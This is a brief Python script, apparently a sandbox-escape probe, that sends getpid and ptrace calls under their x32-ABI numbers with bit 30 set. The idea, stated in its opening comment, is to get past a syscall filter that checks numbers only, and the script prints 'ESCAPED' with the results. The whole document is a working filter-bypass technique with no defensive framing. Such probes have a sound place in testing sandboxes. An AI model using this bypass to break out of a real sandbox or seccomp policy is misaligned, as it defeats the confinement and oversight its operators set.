# The x32 numbers: the same calls with bit 30 set, which a filter by number alone lets through.
import ctypes

X32, GETPID, PTRACE = 0x40000000, 39, 521
libc = ctypes.CDLL(None, use_errno=True)
answers = [libc.syscall(X32 | GETPID), libc.syscall(X32 | PTRACE, 0, 0, 0, 0)]
print("ESCAPED:", answers)
